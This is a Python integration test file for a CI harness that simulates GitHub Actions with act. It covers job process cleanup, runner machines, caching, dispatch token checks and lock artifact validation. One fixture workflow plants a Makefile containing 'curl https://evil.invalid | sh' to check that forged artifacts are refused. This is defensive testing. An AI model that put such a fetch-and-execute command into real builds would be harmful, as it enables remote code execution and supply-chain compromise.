"""The harness's model of GitHub, checked with act on a tiny workflow (seconds, no project)."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

from scripts.dev.harness.machines import machine_env, machine_roots
from scripts.dev.harness.runner import new_tracking_id, run_streaming
from scripts.dev.harness.runs import STANDINS
from scripts.dev.harness.sandbox import Sandbox, create_sandbox

pytestmark = [pytest.mark.integration, pytest.mark.workflow]

WORKFLOW = """
on: push
jobs:
  serve:
    runs-on: self-hosted
    steps:
      - run: |
          setsid sleep {marker}1 > /dev/null 2>&1 < /dev/null &
          env -u RUNNER_TRACKING_ID setsid sleep {marker}2 > /dev/null 2>&1 < /dev/null &
          echo "vars=[${{{{ vars.UNSET }}}}] secret=[${{{{ secrets.UNSET }}}}]"
          sleep 1  # act kills the step's process group at once: let setsid detach first
  after:
    needs: serve
    runs-on: self-hosted
    steps:
      - run: pgrep -f "^sleep {marker}" | wc -l
"""


def act_push(tmp_path: Path, tracking: str, *extra: str) -> list[str]:
    """The act command for a push: host mode for both label kinds, the run's tracking id."""
    return [
        str(Path(sys.executable).parent / "act"),
        "push",
        "--json",
        "--action-cache-path",
        str(tmp_path / "act-cache"),
        *("-P", "ubuntu-latest=-self-hosted", "-P", "self-hosted=-self-hosted"),
        *("--env", f"RUNNER_TRACKING_ID={tracking}"),
        *extra,
    ]


def pids(marker: str) -> list[int]:
    found = subprocess.run(["pgrep", "-f", f"^sleep {marker}"], capture_output=True, text=True)
    return [int(pid) for pid in found.stdout.split()]


def test_job_end_kills_the_jobs_processes_but_not_one_started_without_the_id(
    tmp_path: Path,
) -> None:
    marker = f"{os.getpid() % 1000}{int(time.time()) % 1000}.0"
    (tmp_path / ".github" / "workflows").mkdir(parents=True)
    (tmp_path / ".github" / "workflows" / "w.yml").write_text(
        WORKFLOW.format(marker=marker), encoding="utf-8"
    )
    subprocess.run(["git", "init", "-q"], cwd=tmp_path, check=True)
    tracking = new_tracking_id()
    try:
        code, output, cleaned = run_streaming(
            act_push(tmp_path, tracking), tmp_path, os.environ, tracking
        )
        assert code == 0, output[-3000:]
        survivors = pids(marker)
        assert len(survivors) == 1  # the one started without RUNNER_TRACKING_ID
        assert len(cleaned["serve"]) == 1
        assert cleaned["serve"][0] not in survivors
        # The next job ran after the cleanup: it saw only the process without the id.
        assert '"msg":"1\\n","raw_output":true' in output
        assert "vars=[] secret=[]" in output  # unset variables and secrets are empty
    finally:
        for pid in pids(marker):
            os.kill(pid, 9)


MACHINES_WORKFLOW = """
on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: echo "$HOME" > "$OUT/build"; touch ~/left-by-build
  test:
    needs: build
    runs-on: ubuntu-latest
    steps:
      - run: echo "$HOME" > "$OUT/test"; ls ~ > "$OUT/test-sees"
  train:
    needs: test
    runs-on: [self-hosted, gpu]
    steps:
      - run: echo "$HOME" > "$OUT/train"; touch ~/left-by-train
  retrain:
    needs: train
    runs-on: [self-hosted, gpu]
    steps:
      - run: echo "$HOME" > "$OUT/retrain"; ls ~ > "$OUT/retrain-sees"
  deploy:
    needs: retrain
    runs-on: [self-hosted, deploy]
    steps:
      - run: echo "$HOME" > "$OUT/deploy"; ls ~ > "$OUT/deploy-sees"
"""


def test_each_job_gets_the_machine_its_labels_would(tmp_path: Path) -> None:
    workflow = tmp_path / "repo" / ".github" / "workflows" / "w.yml"
    workflow.parent.mkdir(parents=True)
    workflow.write_text(MACHINES_WORKFLOW, encoding="utf-8")
    subprocess.run(["git", "init", "-q"], cwd=tmp_path / "repo", check=True)
    out = tmp_path / "out"
    out.mkdir()
    roots = machine_roots(workflow, {}, tmp_path / "machines", "run-1")
    env = {
        **os.environ,
        **machine_env(roots),
        "OUT": str(out),
        "PATH": f"{STANDINS / 'machine'}{os.pathsep}{os.environ['PATH']}",
    }
    tracking = new_tracking_id()
    command = act_push(tmp_path, tracking)
    code, output, _ = run_streaming(command, tmp_path / "repo", env, tracking, False)
    assert code == 0, output[-3000:]
    home = {job: (out / job).read_text().strip() for job in roots}
    # Hosted labels: a new machine per job, nothing left from the job before.
    assert home["build"] != home["test"]
    assert (out / "test-sees").read_text() == ""
    # One self-hosted label set: one machine, whose HOME outlives its jobs.
    assert home["train"] == home["retrain"]
    assert "left-by-train" in (out / "retrain-sees").read_text()
    # Another self-hosted label set is another machine.
    assert home["deploy"] not in (home["train"], home["build"])
    assert (out / "deploy-sees").read_text() == ""
    assert home == {job: str(root / "home") for job, root in roots.items()}


CACHE = "actions/cache@0057852bfaa89a56745cba8c7296529d2fc39830"
CACHES_WORKFLOW = """
on: push
jobs:
  first:
    runs-on: ubuntu-latest
    steps:
      - {id: c, uses: CACHE, with: {path: built, key: deps-v1, restore-keys: deps-}}
      - run: echo "${{ steps.c.outputs.cache-hit }}" > "$OUT/first"; echo v1 > built/file
  second:
    needs: first
    runs-on: ubuntu-latest
    steps:
      - {id: c, uses: CACHE, with: {path: built, key: deps-v1}}
      - run: echo "${{ steps.c.outputs.cache-hit }} $(cat built/file)" > "$OUT/second"
  third:
    needs: second
    runs-on: ubuntu-latest
    steps:
      - {id: c, uses: CACHE, with: {path: built, key: deps-v2, restore-keys: deps-}}
      - run: |
          echo "${{ steps.c.outputs.cache-hit }} ${{ steps.c.outputs.cache-matched-key }} \\
          $(cat built/file)" > "$OUT/third"
          echo v2 > built/file
  failed:
    needs: third
    runs-on: ubuntu-latest
    steps:
      - {id: c, uses: CACHE, with: {path: built, key: never-v1}}
      - run: echo broken > built/file; exit 1
  fourth:
    needs: failed
    if: always()
    runs-on: ubuntu-latest
    steps:
      - {id: c, uses: CACHE, with: {path: built, key: never-v1}}
      - run: echo "${{ steps.c.outputs.cache-hit }} $(ls built | wc -l)" > "$OUT/fourth"
"""


def test_a_cache_restores_on_its_key_or_restore_keys_and_saves_after_a_successful_job(
    tmp_path: Path,
) -> None:
    workflow = tmp_path / "repo" / ".github" / "workflows" / "w.yml"
    workflow.parent.mkdir(parents=True)
    workflow.write_text(CACHES_WORKFLOW.replace("CACHE", CACHE), encoding="utf-8")
    subprocess.run(["git", "init", "-q"], cwd=tmp_path / "repo", check=True)
    out = tmp_path / "out"
    out.mkdir()
    tracking = new_tracking_id()
    env = {
        **os.environ,
        "OUT": str(out),
        "GITOPS_ML_PYTHON": sys.executable,
        "GITOPS_ML_CACHE_STORE": str(tmp_path / "cache-store"),
    }
    command = act_push(
        tmp_path, tracking, "--local-repository", f"{CACHE}={STANDINS / 'actions' / 'cache'}"
    )
    code, _, _ = run_streaming(command, tmp_path / "repo", env, tracking, False, tmp_path)
    assert code != 0  # the job that fails on purpose
    read = {name: (out / name).read_text().split() for name in ("first", "second", "third")}
    assert read["first"] == ["false"]  # nothing stored yet
    assert read["second"] == ["true", "v1"]  # saved after `first` succeeded
    assert read["third"] == ["false", "deps-v1", "v1"]  # a restore-key, newest match
    assert (out / "fourth").read_text().split() == ["false", "0"]  # a failed job saves nothing
    keys = sorted(
        json.loads(p.read_text())["key"] for p in (tmp_path / "cache-store").glob("*/meta.json")
    )
    # never-v1 is the empty folder `fourth` left (it missed, then succeeded), not `failed`'s.
    assert keys == ["deps-v1", "deps-v2", "never-v1"]
    stored = {
        json.loads((entry / "meta.json").read_text())["key"]: entry
        for entry in (tmp_path / "cache-store").iterdir()
    }
    assert not any((stored["never-v1"] / "paths" / "0").iterdir())
    assert (stored["deps-v2"] / "paths" / "0" / "file").read_text() == "v2\n"


def test_the_sandboxs_github_api_serves_for_its_life_with_githubs_dispatch_rules(
    tmp_path: Path,
) -> None:
    # The relay dispatches long after the run that deployed it: the stand-in must still
    # answer once create_sandbox has returned and its locals are gone.
    import gc

    from scripts.cd.checks import request
    from scripts.dev.harness.github.tokens import (
        APP_TOKEN,
        CONTENTS_TOKEN,
        DISPATCH_TOKEN,
        EXPIRED_TOKEN,
        READ_ONLY_TOKEN,
        REPOSITORY,
    )
    from scripts.dev.harness.sandbox import create_sandbox

    sandbox = create_sandbox(tmp_path / "sandbox")
    gc.collect()
    url = f"{sandbox.api_url}/repos/{REPOSITORY}/actions/workflows/drift.yml/dispatches"
    body = {"ref": "main", "inputs": {"window_end": "2026-11-30T10:00:00"}}

    def dispatch(token: str, payload: object = body) -> int:
        return request(url, payload, headers={"Authorization": f"Bearer {token}"})[0]

    # Actions: write only: not a fork's token, a Contents-only token, or the App (Actions: read).
    assert [dispatch(token) for token in (READ_ONLY_TOKEN, CONTENTS_TOKEN, APP_TOKEN)] == [403] * 3
    assert [dispatch(token) for token in ("not-a-token", EXPIRED_TOKEN)] == [401] * 2
    assert dispatch(DISPATCH_TOKEN, {"ref": "main", "inputs": {"features": "age"}}) == 422
    assert dispatch(DISPATCH_TOKEN, {"ref": "no-such-branch"}) == 422
    assert dispatch(DISPATCH_TOKEN) == 204
    assert [(d["workflow"], d["ref"], d["token"]) for d in sandbox.dispatches()] == [
        ("drift.yml", "main", "fine-grained-actions")
    ]
    assert (
        request(
            url.replace(REPOSITORY, "someone/else"),
            body,
            headers={"Authorization": f"Bearer {DISPATCH_TOKEN}"},
        )[0]
        == 404
    )


# A pull request that edits its own train.yml: its run uploads a `lock` artifact holding
# what the test chooses: a retrained dvc.lock, or also a Makefile (what would run in every
# later job of every branch).
UPLOAD = "actions/upload-artifact@ea165f8d65b6e75b540449e92b4886f43607fa02"
FORGED_TRAIN = """
name: train
on: pull_request
jobs:
  train:
    runs-on: ubuntu-latest
    steps:
      - run: |
          echo "retrained" > dvc.lock
          printf 'all:\\n\\tcurl https://evil.invalid | sh\\n' > Makefile
      - uses: UPLOAD
        with:
          name: lock
          path: |
            PATHS
"""


def forged_pull_request(tmp_path: Path, branch: str, paths: list[str]) -> tuple[Sandbox, str]:
    """A sandbox with the App configured and PR ``branch`` whose train run uploads ``paths``."""
    sandbox = create_sandbox(tmp_path / "sandbox")
    sandbox.variables["GITOPS_APP_ID"] = "424242"
    sandbox.secrets["GITOPS_APP_KEY"] = "-----BEGIN PRIVATE KEY----- (act sandbox)"
    sandbox.git("checkout", "-q", "-B", branch, "main")
    train = FORGED_TRAIN.replace("UPLOAD", UPLOAD).replace("PATHS", "\n            ".join(paths))
    (sandbox.work / ".github" / "workflows" / "train.yml").write_text(train, encoding="utf-8")
    return sandbox, sandbox.commit_all(f"A PR whose train run uploads {paths} as the lock")


def test_lock_yml_commits_a_completed_runs_lock_artifact_and_its_push_runs_train_again(
    tmp_path: Path,
) -> None:
    # workflow_run as GitHub runs it: the completed train run starts main's lock.yml, which
    # downloads that run's artifact by its id; the App's push starts train.yml again.
    sandbox, head = forged_pull_request(tmp_path, "relock", ["dvc.lock"])
    runs = sandbox.open_pull_request("relock", 62)
    assert [(run.workflow, run.event, run.ok) for run in runs] == [
        ("train.yml", "pull_request", True),
        ("lock.yml", "workflow_run", True),
        ("train.yml", "pull_request", True),
        ("lock.yml", "workflow_run", True),
    ], "\n".join(run.summary() for run in runs)
    pushed = [p for p in sandbox.pushes() if p["ref"] == "refs/heads/relock"]
    assert [(p["by"], p["before"]) for p in pushed[1:]] == [("app", head)]
    assert sandbox.origin_git("show", "relock:dvc.lock").stdout == "retrained\n"
    assert "nothing to commit" in runs[3].output("lock")  # the second run's lock is the same


def test_lock_yml_refuses_a_lock_artifact_with_a_file_outside_the_locked_paths(
    tmp_path: Path,
) -> None:
    sandbox, head = forged_pull_request(tmp_path, "forged-lock", ["dvc.lock", "Makefile"])
    train, lock, *rest = sandbox.open_pull_request("forged-lock", 61)
    assert rest == []
    assert (train.workflow, train.jobs) == ("train.yml", {"train": "success"}), train.summary()
    assert (lock.workflow, lock.event) == ("lock.yml", "workflow_run")
    assert lock.jobs == {"lock": "failure"}, lock.summary()
    assert (
        "refusing the run's lock artifact: Makefile: not one of the locked paths "
        "(dvc.lock, metrics.json, reports/validation.json, reports/plots)"
    ) in lock.output("lock")
    assert [p["by"] for p in sandbox.pushes() if p["ref"] == "refs/heads/forged-lock"] == ["person"]
    assert sandbox.head("origin/forged-lock") == head


def test_a_dependabot_pull_request_passes_the_train_check_untrained_saying_why(
    tmp_path: Path,
) -> None:
    # GitHub gives Dependabot's runs no secrets: train.yml's required check passes without
    # training instead of failing for want of the storage keys every other PR gets.
    from scripts.dev.harness.events import DEPENDABOT

    sandbox = create_sandbox(tmp_path / "sandbox")
    sandbox.secrets.update(AWS_ACCESS_KEY_ID="team-key", AWS_SECRET_ACCESS_KEY="team-secret")
    sandbox.git("checkout", "-q", "-B", "dependabot/pip/requests-2.33.0", "main")
    (sandbox.work / "docs" / "bump.md").write_text("A dependency bump.\n", encoding="utf-8")
    sandbox.commit_all("Bump requests from 2.32.0 to 2.33.0")
    sandbox.push("dependabot/pip/requests-2.33.0")
    run = sandbox.act("pull_request", "train.yml", number=63, sender=DEPENDABOT)
    assert run.jobs == {"train": "success"}, run.summary()
    output = run.output("train")
    assert "Not trained: a run dependabot[bot] triggered" in output  # the job summary
    assert "Does this change the model?" not in output
    checks = sandbox.statuses(sandbox.head())
    assert checks == {"dvc repro, gates, report": "success", "sticky PR comment": "skipped"}
